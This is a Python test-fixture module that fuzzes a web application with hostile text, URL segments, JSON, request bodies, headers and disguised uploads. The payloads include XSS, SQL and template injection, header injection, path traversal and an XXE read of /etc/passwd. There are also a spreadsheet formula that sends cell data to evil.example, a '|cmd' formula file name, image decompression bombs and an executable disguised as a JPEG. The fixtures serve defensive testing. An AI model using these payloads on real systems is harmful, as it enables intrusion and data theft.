"""What strangers send: text, files and JSON values that no honest person types.

Every value has a name, which is what a failing test shows.
"""

import io
import math
import os
import unicodedata
from collections.abc import Iterator, Mapping
from typing import Any, TypeVar

from PIL import Image

from tests.media.pictures import EPS, HTML, PDF, SVG, moving, phone_photo, picture, png_header_bomb

T = TypeVar("T")

# A template engine that evaluates this would print the product; nothing else does.
TEMPLATE, PRODUCT = "{{ 7919 * 104729 }} ${7919*104729} #{7919*104729}", "829348951"
SCRIPT = '"><script>alert(7919)</script><img src=x onerror=alert(7919)>'
HEADER = "x\r\nX-Evil: 7919\r\nSet-Cookie: evil=7919"

TEXTS: dict[str, str | bytes] = {
    "empty": "",
    "blank": " \t\u00a0\u3000 ",
    "nul": "a\0b",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "invalid utf-8": b"\xff\xfe\xc3\x28\xed\xa0\x80",
    "overlong utf-8": b"\xc0\x80\xc0\xaf",
    "nfd": unicodedata.normalize("NFD", "Đường Trần Hưng Đạo, tổ 3"),
    "right to left": "\u202eevil\u202c \u2067ab\u2069 \u0645\u0631\u062d\u0628\u0627",
    "zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "astral": "😀" * 20 + "\U0010ffff\ufffe\uffff",
    "stacked marks": "e" + "\u0301" * 300,
    "long": "x" * 5_000,
    "long wide": "Đ" * 30_000,
    "too big": "x" * 250_000,
    "crlf": HEADER,
    "html": SCRIPT,
    "template": TEMPLATE,
    "format": "%s%n%(text)s {0} {text!r} %",
    "sql": "'; DROP TABLE ticket; --",
    "sql like": "%' OR '1'='1' /* _ */",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "path": "../../../../etc/passwd",
    "address": "//evil.example/x",
    "script address": "javascript:alert(7919)",
    "nan": "nan",
    "infinity": "-inf",
    "overflow": "1e999",
    "huge number": "9" * 5_000,
    "out of range": "181.5",
    "negative": "-1",
    "other digits": "٢٠",
    "underscored": "1_0",
    "column overflow": "99999999999999999999",
    "unknown code": "no-such-code",
    "first day": "0001-01-01",
    "last day": "9999-12-31",
    "no day": "2026-02-30",
    "first instant": "0001-01-01T00:00:00+23:59~1",
    "last instant": "9999-12-31T23:59:59-23:59~9223372036854775807",
    "naive instant": "2026-01-01T00:00:00~1",
    "json": '{"$gt": ""}',
}
# Meeting everything with everything takes many minutes: by default each value has its turn at
# every sixteenth place, and NUL, which breaks most, at all of them. HOSTILE_EVERY=1 leaves out nothing.
EVERY = int(os.environ.get("HOSTILE_EVERY", "16"))
ALWAYS = {"nul"}

SEGMENTS = {
    "nul": "%00",
    "invalid utf-8": "%ff%fe",
    "crlf": "%0d%0aX-Evil:%207919",
    "dots": "..%2f..%2f..%2fetc%2fpasswd",
    "dot": ".",
    "html": "%22%3E%3Cscript%3Ealert(7919)%3C%2Fscript%3E",
    "template": "%7B%7B%207919%20*%20104729%20%7D%7D",
    "long": "x" * 6_000,
    "digits": "9" * 6_000,
    "big": "9" * 25,
    "negative": "-1",
    "other digits": "%D9%A2%D9%A0",
    "percent": "%25%2",
    "rtl": "%E2%80%AE%E2%80%8B",
    "uuid": "00000000-0000-0000-0000-000000000000",
    "space": "%20",
    "semicolon": "a;b=c",
}

JSON_VALUES: dict[str, Any] = {
    "null": None,
    "true": True,
    "zero": 0,
    "huge": 10**400,
    "minus huge": -(10**400),
    "nan": math.nan,
    "infinity": math.inf,
    "list": [],
    "lists": [[[]]],
    "object": {},
    "nested": {"a": {"b": [1]}},
    "wrong parts": {"email": ["x"], "name": 7, "phone": {}, "consent": {"a": 1}, "what": None},
    "surrogate": "\ud800\udfff x \udc80",
    "many": ["x"] * 5_000,
}

RAW_BODIES: dict[str, tuple[str, bytes]] = {
    "nothing": ("", b""),
    "form": ("application/x-www-form-urlencoded", b"a=1&a=2&%ff=%fe&=&&&"),
    "many fields": ("application/x-www-form-urlencoded", b"&".join([b"a=1"] * 5_000)),
    "long form": ("application/x-www-form-urlencoded", b"text=" + b"x" * 300_000),
    "json": ("application/json", b'{"text": "x", "category": "waste"}'),
    "broken json": ("application/json", b'{"text": '),
    "no object": ("application/json", b'["a"]'),
    "deep json": ("application/json", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
    "deep lists": ("application/json", b'{"text":' + b"[" * 30_000 + b"]" * 30_000 + b"}"),
    "number json": ("application/json", b'{"lat":' + b"9" * 20_000 + b',"lon":1e999}'),
    "twice json": ("application/json", b'{"category":"waste","text":"a","text":7,"lat":NaN}'),
    "latin json": ("application/json", b'{"text":"\xff\xfe"}'),
    "utf-16 json": ("application/json; charset=utf-16", '{"text":"x"}'.encode("utf-16")),
    "bom json": ("application/json", b'\xef\xbb\xbf{"text":"x"}'),
    "large json": ("application/json", b'{"text":"' + b"x" * 100_000 + b'"}'),
    "xml": ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "plain": ("text/plain", b"category=waste&text=x"),
    "strange type": ("x/\xff; charset=\x01", b"x"),
    "no boundary": ("multipart/form-data", b"--x\r\n\r\n--x--"),
    "cut multipart": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="photos"; filename="a.jpg"\r\n\r\nab',
    ),
    "nameless multipart": ("multipart/form-data; boundary=x", b"--x\r\n\r\nab\r\n--x--\r\n"),
    "many parts": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n' * 400 + b"--x--\r\n",
    ),
    "long part header": (
        "multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="' + b"a" * 300_000 + b'"\r\n\r\nb\r\n--x--',
    ),
    "strange part": (
        "multipart/form-data; boundary=x",
        (
            b'--x\r\nContent-Disposition: form-data; name="text\0\xff"; filename*=utf-9\'\'%ff\r\n'
            b"Content-Transfer-Encoding: base64\r\nContent-Type: a/b; charset=utf-99\r\n\r\n"
            b"\xff\r\n--x--\r\n"
        ),
    ),
}  # fmt: skip

HEADERS: dict[str, dict[str, str]] = {
    "languages": {"Accept-Language": "xx;q=nan, vi;q=1e999, ../../etc;q=-1, *;q=" + "9" * 400},
    "long language": {"Accept-Language": "a-" * 5_000},
    "forwarded": {
        "X-Forwarded-For": "127.0.0.1, ::1, \x7f, <script>",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "gopher",
        "Forwarded": "for=127.0.0.1;host=evil.example",
        "X-Real-Ip": "127.0.0.1",
    },
    "host": {"Host": "evil.example"},
    "strange host": {"Host": "a b<script>:99999999"},
    "cookies": {"Cookie": 'lang=xx; desk="\\000\xff"; __Host-desk=; desk=a; =; a' + "b" * 5_000},
    "caching": {
        "If-None-Match": '"\xff, W/',
        "If-Modified-Since": "Thu, 99 Foo 99999",
        "If-Range": '"',
        "Range": "bytes=5-1,-,9999999999999999999999-",
    },
    "method": {"X-HTTP-Method-Override": "DELETE", "Expect": "nonsense"},
    "secrets": {
        "Authorization": "Bearer \xff " + "x" * 5_000,
        "X-Follow-Token": "\x01\xff",
        "X-CSRF-Token": "\xff",
        "Idempotency-Key": "\xff'--",
    },
    "browser": {"User-Agent": SCRIPT * 100, "Referer": "javascript:\xff", "Accept": "*;q=\xff"},
    "fetch": {"Sec-Fetch-Site": "\xff", "Origin": "http://[::"},
}


def some(values: Mapping[str, T], turn: int) -> Iterator[tuple[str, T]]:
    """The values whose turn it is."""
    for number, (name, value) in enumerate(values.items()):
        if name in ALWAYS or (number + turn) % EVERY == 0:
            yield name, value


def _pixels(kind: str, size: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, kind)
    return buffer.getvalue()


def files() -> dict[str, tuple[str, str, bytes]]:
    """{name: (file name, content type, content)} of what is no photo that we take."""
    jpeg = picture()
    return {
        "empty": ("a.jpg", "image/jpeg", b""),
        "svg": ("a.jpg", "image/jpeg", SVG),
        "html": ("a.jpg.html", "text/html", HTML),
        "pdf": ("a.pdf", "application/pdf", PDF),
        "eps": ("a.jpg", "image/jpeg", EPS),
        "truncated header": ("a.jpg", "image/jpeg", jpeg[:20]),
        "bomb": ("a.png", "image/png", png_header_bomb(20_000, 20_000)),
        "strip": ("a.png", "image/png", png_header_bomb(65_535, 1_000)),
        "moving png": ("a.png", "image/png", moving("PNG")),
        "moving webp": ("a.webp", "image/webp", moving("WEBP")),
        "gif": ("a.gif", "image/gif", moving("GIF")),
        "tiff": ("a.jpg", "image/jpeg", _pixels("TIFF", (8, 8))),
        "too many bytes": ("a.jpg", "image/jpeg", jpeg + b"\0" * 12_000_001),
        "disguised": ("a.jpg", "image/jpeg", b"MZ\x90\0" + b"\0" * 200),
    }  # fmt: skip


def odd_photos() -> dict[str, tuple[str, str, bytes]]:
    """Photos that we take, under names and types that nobody should believe."""
    return {
        "path": ("../../../etc/cron.d/x", "text/html", picture()),
        "nul name": ("a\0.php", "application/x-php", picture()),
        "html name": (SCRIPT, "image/svg+xml", picture("PNG")),
        "long name": ("x" * 5_000 + ".jpg", "", picture("WEBP")),
        "formula name": ("=1+1|cmd.jpg", "image/jpeg", phone_photo(6)),
    }
